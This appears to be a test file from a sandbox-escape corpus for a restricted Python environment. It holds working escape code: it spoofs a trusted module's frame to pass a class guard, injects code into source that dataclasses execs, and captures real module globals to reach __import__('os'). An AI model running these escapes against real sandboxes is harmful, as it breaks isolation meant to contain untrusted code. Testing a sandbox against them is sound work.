# technique: the class guard skips every check of bases, module and typing markers for a class "of an allowed module defined by that module's own code": the frame that called type.__new__ runs that module's code and the namespace's __module__ names it; a metaclass called from contextlib's own frame (the inner() of a contextmanager used as a decorator, @wraps'd around type(abc.ABC)) with __module__ = 'contextlib' in the namespace passes as contextlib's class: any base is accepted, so a dataclasses.Field subclass whose name is a property (renamed by nothing, checked by nothing) pastes 'a=EXPR,_return_type=None,**k):#' into the source dataclasses execs, and a typing.ForwardRef subclass (_root=True) with its own _evaluate receives json's real globals from typing.get_type_hints, called by functools.singledispatch.register
# source: frame-based provenance checks (who called type.__new__) spoofed by calling the metaclass from a trusted module's frame (contextlib.ContextDecorator) + 144/162 (Field.name and ForwardRef._evaluate subclasses)
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, contextlib, dataclasses, functools, json, typing


@contextlib.contextmanager
def nothing():
    yield


def of_contextlib(name, bases, ns, **kw):
    # contextlib's inner() calls the metaclass: the class guard takes the
    # class for one contextlib defines in its own code
    ns = dict(ns)
    ns[dn('module')] = 'contextlib'
    return nothing()(type(abc.ABC))(name, bases, ns, **kw)


# 1. a dataclasses.Field subclass whose name answers what it likes
GOT = []
NAME = ['a']


def get_name(self):
    return NAME[0]


def set_name(self, value):
    pass


def generated(expr):
    LyingField = of_contextlib('LyingField', (dataclasses.Field,),
                               {'name': property(get_name, set_name)})
    field = LyingField(0, dataclasses.MISSING, False, False, None, False, None, False)
    NAME[0] = 'a'

    class K:
        a: int = field

    NAME[0] = 'a=GOT.append(' + expr + '),_return_type=None,**k):#'
    GOT.clear()
    try:
        dataclasses.dataclass(K)
    finally:
        NAME[0] = 'a'
    return GOT[-1]

attempt('Field subclass (contextlib-made) -> exec json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))
attempt("... __import__('os') from the real builtins",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + '][' +
                          repr(dn('import')) + "]('os')"))

# 2. a typing.ForwardRef subclass whose _evaluate receives the globals
SEEN = []


def evaluate(self, globalns, localns, *rest):
    SEEN.append(globalns)
    return int


def noop(self, value):
    pass


def globals_of(fn):
    ForwardRef = type(typing.get_args(typing.List['int'])[0])
    Ref = of_contextlib('Ref', (ForwardRef,), {'_eval' + 'uate': evaluate}, **{'_root': True})
    Fake = of_contextlib('Fake', (), {dn('annotations'): property(lambda self: {'x': Ref('int')},
                                                                 noop)})
    fake = Fake()
    functools.update_wrapper(fake, fn)  # __wrapped__ = fn; the annotations stay the property's

    @functools.singledispatch
    def f(x):
        return x

    SEEN.clear()
    f.register(fake)  # typing.get_type_hints(fake, globalns=fn.__globals__)
    return SEEN[-1]

attempt('ForwardRef subclass (contextlib-made) _evaluate <- json.dumps globals',
        lambda: globals_of(json.dumps))
